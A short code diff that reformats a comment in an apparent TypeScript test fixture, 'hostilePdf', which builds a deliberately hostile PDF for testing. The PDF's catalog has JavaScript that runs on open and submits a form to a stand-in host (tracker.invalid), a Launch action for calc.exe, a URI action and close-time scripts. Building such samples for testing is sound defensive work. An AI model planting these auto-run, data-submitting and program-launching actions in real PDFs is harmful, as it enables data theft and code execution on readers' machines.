@@ -34,7 +34,9 @@ function pdfOf(objects: readonly string[]): Buffer {
 
 const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
 
-/** A PDF that does things when it is opened, when its page is, and when its links are pressed; with code in its font. */
+/**
+ * A PDF that does things when it is opened, when its page is, and when its links are pressed; with code in its font.
+ */
 export const hostilePdf = (): Buffer =>
   pdfOf([
     '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://tracker.invalid/form")) /Next [<< /S /Launch /F (calc.exe) >> << /S /URI /URI (https://tracker.invalid/open) >>] >> /AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert("named")) >>] >> >> >>',
